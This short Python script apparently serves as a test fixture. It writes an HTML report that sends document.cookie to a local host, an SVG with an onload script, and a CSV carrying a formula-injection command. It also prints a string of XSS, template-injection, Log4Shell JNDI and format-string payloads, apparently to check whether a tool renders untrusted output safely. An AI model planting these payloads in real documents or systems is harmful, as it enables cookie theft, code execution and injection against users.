"""A page, a picture and a table that do something when they are looked at."""

from attack import *

(OUT / "report.html").write_text("<script>fetch('http://127.0.0.1/?' + document.cookie)</script>")
(OUT / "plot.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
(OUT / "table.csv").write_text("a\n=cmd|' /C calc'!A0\n")
print("<script>alert(1)</script> <img src=x onerror=alert(1)> {{7*7}} ${jndi:ldap://127.0.0.1/} %n%s", flush=True)
done()
